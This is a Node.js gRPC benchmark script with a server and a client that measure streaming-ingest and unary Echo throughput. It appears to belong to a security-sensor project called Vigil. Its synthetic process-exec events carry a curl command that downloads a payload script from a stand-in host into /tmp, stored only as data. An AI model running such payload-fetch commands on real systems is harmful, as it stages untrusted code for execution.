'use strict';
// grpc-js side of the Vigil benchmarks (vigil.bench.v1.Bench).
// Usage: node bench.js server [--port N]
//        node bench.js client <host:port> [--seconds S] [--concurrency C]
const { once } = require('node:events');
const grpc = require('@grpc/grpc-js');
const { bench } = require('./lib/protos');
const { option, serve } = require('./lib/serve');

const BATCH_SIZE = 100;
const WARM_UP_MS = 1000;

function runServer(args) {
  const server = new grpc.Server();
  server.addService(bench.Bench.service, {
    Ingest(call, callback) {
      let count = 0;
      call.on('data', (batch) => {
        count += batch.events.length;
      });
      call.on('end', () => callback(null, { count: String(count) }));
    },
    Echo(call, callback) {
      callback(null, call.request);
    },
  });
  serve(server, Number(option(args, 'port', '0')));
}

// A batch shaped like a sensor's process-exec events; int64 fields are strings (longs: String).
function makeBatch() {
  const events = [];
  for (let i = 0; i < BATCH_SIZE; i++) {
    events.push({
      time_unix_nano: (1700000000000000000n + BigInt(i)).toString(),
      node: 'node-1',
      container_id: 'a'.repeat(64),
      pod_uid: '6f1c2b9e-3d4a-4e5f-8a7b-1c2d3e4f5a6b',
      binary: '/usr/bin/curl',
      arguments: ['curl', '-s', '-o', '/tmp/payload.sh', 'http://payload.example.invalid/x.sh'],
      pid: 1000 + i,
      parent_pid: 999,
      cwd: '/app',
      uid: 0,
    });
  }
  return { events };
}

// Streams `batch` for `ms`, honouring backpressure; returns the acknowledged count and the time
// from the first write to the ack.
async function ingest(client, batch, ms) {
  let call;
  const acked = new Promise((resolve, reject) => {
    call = client.Ingest((err, ack) => (err ? reject(err) : resolve(ack)));
  });
  const started = process.hrtime.bigint();
  const stopAt = Date.now() + ms;
  const writing = (async () => {
    while (Date.now() < stopAt) {
      if (!call.write(batch)) await once(call, 'drain');
    }
    call.end();
  })();
  // A failed call only rejects `acked` (grpc-js emits no 'error' here), so await both together.
  const [, ack] = await Promise.all([writing, acked]);
  const seconds = Number(process.hrtime.bigint() - started) / 1e9;
  return { count: Number(ack.count), seconds };
}

// `concurrency` loops calling Echo back to back for `ms`; returns completed calls and elapsed time.
async function echoLoops(client, concurrency, ms) {
  const echo = (value) =>
    new Promise((resolve, reject) => client.Echo({ value: String(value) }, (err) => (err ? reject(err) : resolve())));
  let calls = 0;
  const started = process.hrtime.bigint();
  const stopAt = Date.now() + ms;
  const loop = async () => {
    while (Date.now() < stopAt) {
      await echo(calls);
      calls++;
    }
  };
  await Promise.all(Array.from({ length: concurrency }, loop));
  const seconds = Number(process.hrtime.bigint() - started) / 1e9;
  return { calls, seconds };
}

async function runClient(args) {
  const address = args[0];
  if (!address || address.startsWith('--')) throw new Error('usage: bench.js client <host:port> [--seconds S] [--concurrency C]');
  const seconds = Number(option(args, 'seconds', '3'));
  const concurrency = Number(option(args, 'concurrency', '64'));
  if (!(seconds > 0) || !(concurrency >= 1)) throw new Error('--seconds and --concurrency must be positive');

  const client = new bench.Bench(address, grpc.credentials.createInsecure());
  const batch = makeBatch();

  // Warm up the connection, the JIT and protobufjs's generated code before measuring.
  await ingest(client, batch, WARM_UP_MS / 2);
  await echoLoops(client, concurrency, WARM_UP_MS / 2);

  const stream = await ingest(client, batch, seconds * 1000);
  const unary = await echoLoops(client, concurrency, seconds * 1000);
  client.close();

  const result = {
    streamEventsPerSecond: Math.round(stream.count / stream.seconds),
    unaryCallsPerSecond: Math.round(unary.calls / unary.seconds),
    streamEvents: stream.count,
    unaryCalls: unary.calls,
  };
  process.stdout.write(`${JSON.stringify(result)}\n`);
}

function main() {
  const [mode, ...args] = process.argv.slice(2);
  if (mode === 'server') return runServer(args);
  if (mode === 'client') {
    return runClient(args).then(
      () => process.exit(0),
      (err) => {
        process.stderr.write(`bench: ${err.message}\n`);
        process.exit(1);
      }
    );
  }
  process.stderr.write('usage: bench.js server [--port N] | bench.js client <host:port> [--seconds S] [--concurrency C]\n');
  process.exit(2);
}

main();
